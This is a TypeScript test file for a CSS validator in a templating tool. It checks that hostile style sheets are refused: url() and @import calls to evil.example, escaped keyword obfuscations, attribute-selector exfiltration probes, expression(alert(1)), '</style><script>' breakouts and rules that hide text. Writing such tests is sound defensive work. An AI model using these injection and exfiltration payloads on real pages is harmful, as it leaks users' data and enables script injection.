import fc from 'fast-check';
import { TemplateError } from '../template-error.js';
import { checkStyle } from './check-style.js';

describe('style that is not plain', () => {
  function styled(style: string): TemplateError | undefined {
    try {
      checkStyle('style.css', style);
    } catch (error) {
      if (error instanceof TemplateError) return error;
      throw error;
    }
    return undefined;
  }
  const png = 'data:image/png;base64,iVBORw0KGgo=';

  it.each([
    ['@import "https://evil.example/x.css";', '@import is not a rule'],
    ['@IMPORT url(x);', 'is not a rule'],
    ['@\\69mport "x";', 'cannot be read'],
    ['@font-face { font-family: x; src: url(http://evil.example/x.woff2) }', '@font-face is not a rule'],
    ['@namespace "x";', 'is not a rule'],
    ['p { background: url(http://evil.example/x) }', 'Nothing is loaded'],
    ['p { background: URL("https://evil.example/x") }', 'Nothing is loaded'],
    ['p { background: url(//evil.example/x) }', 'Nothing is loaded'],
    ['p { background: u\\72l(http://evil.example) }', 'cannot be read'],
    ['p { background: image-set("http://evil.example/x" 1x) }', 'do not know the function image-set()'],
    ['p { background: -webkit-image-set("x" 1x) }', 'do not know the function'],
    ['p { background: cross-fade(url(x), url(y)) }', 'do not know the function'],
    ['p { background: element(#x) }', 'do not know the function'],
    ['p { content: attr(data-expectation) }', 'do not know the function'],
    ['p { width: expression(alert(1)) }', 'do not know the function'],
    ['p { background: src("x") }', 'do not know the function'],
    ['[class^="a"] { background: url(https://evil.example/a) }', 'Nothing is loaded'],
    [`p { background: url(data:image/svg+xml;base64,AAAA) }`, 'Nothing is loaded'],
    [`p { background: url("${png}\n") }`, 'ends on its line'],
    ['</style><script>', 'cannot be read'],
    ['p::after { content: "</style>" }', 'cannot be read'],
    ['/* </style> ', 'The comment does not end'],
    ['p { content: "x }', 'cannot be read'],
    ['p { color: red', 'is not closed'],
    ['p { color: red }}', 'closes nothing'],
    ['p { grid: repeat(1000000, 1px) / 1px }', 'too large a number'],
    ['p { margin: 1e9mm }', 'too large a number'],
    ['@page { size: 1mm 1mm }', 'the size of the paper'],
    ['.quiet { display: none }', 'hides what the document says'],
    ['.quiet { color: red; DISPLAY : NONE !important }', 'hides'],
    ['.quiet { visibility: hidden }', 'hides'],
    ['.quiet { opacity: 0.0 }', 'hides'],
    ['.quiet { font-size: 0 }', 'hides'],
    ['.quiet { color: transparent }', 'hides'],
    ['a { & .quiet { display: none } }', 'hides'],
  ])('%s is refused', (style, reason) => {
    const fault = styled(`p { margin: 0 }\n${style}`);
    expect(fault?.reason).toContain(reason);
    expect(fault).toMatchObject({ template: 'style.css', line: 2 });
  });

  it('cannot be a comment that would end the style element', () => {
    expect(styled('/* </style><img src=x> */')?.reason).toContain('cannot be read');
  });

  it('is not what people need: pictures inside, footers, colours, nesting', () => {
    const style = `@page { margin: 20mm; @bottom-left { content: "Änderung \\201C" counter(page) } }
.a:not(.b) > p::before, .c[lang="de"] { background: url("${png}") no-repeat; color: rgb(0 0 0 / 50%); opacity: 0.5; font: 10pt/1.4 'Source Sans 3' }
@media print { p { & b { width: calc(100% - var(--x, 2mm)) !important } } }`;
    expect(styled(style)).toBeUndefined();
  });

  it('never holds an address after being accepted, however it is put together', () => {
    const pieces = [
      'url(',
      'http://x',
      '@import ',
      '"',
      "'",
      '\\',
      '/*',
      '*/',
      '{',
      '}',
      ';',
      '(',
      ')',
      'p',
      ':',
      'red',
      '<',
      '\n',
      png,
      'image-set(',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (parts) => {
        const style = parts.join('');
        fc.pre(styled(style) === undefined);
        expect(style).not.toContain('<');
        // What is left of a sheet without its texts and comments has no address.
        const bare = style.replaceAll(png, '').replaceAll(/\/\*[^]*?\*\/|"[^"\n]*"|'[^'\n]*'/gu, ' ');
        expect(bare).not.toMatch(/@import |image-set\(|url\(\s*[^)\s]/u);
      }),
      { numRuns: 2_000 },
    );
  });
});
